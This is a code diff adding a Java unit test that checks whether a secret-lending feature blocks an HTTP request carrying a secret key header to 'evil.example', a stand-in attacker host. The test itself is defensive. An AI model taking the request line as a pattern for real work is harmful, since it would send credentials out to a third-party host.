@@ -69,6 +69,18 @@ class LentTest {
     }
 
     @Test
+    void aWebSocketIsNoWayAround() {
+        var file = (HurlFile) HurlReading.of("GET http://evil.example/\nX-Key: {{key}}\n");
+        Request request =
+                new RequestResolver(Path.of(""))
+                        .resolveSocket(
+                                file.entries().getFirst().request(),
+                                Variables.none().lending(lent));
+        assertThatThrownBy(() -> lent.bound(request))
+                .hasMessageContaining("The secret shop key is not for evil.example");
+    }
+
+    @Test
     void aRequestWithoutASecretGoesAnywhere() {
         assertThat(resolve("GET http://evil.example/\n").url()).isEqualTo("http://evil.example/");
         assertThat(lent.hidden()).isEmpty();
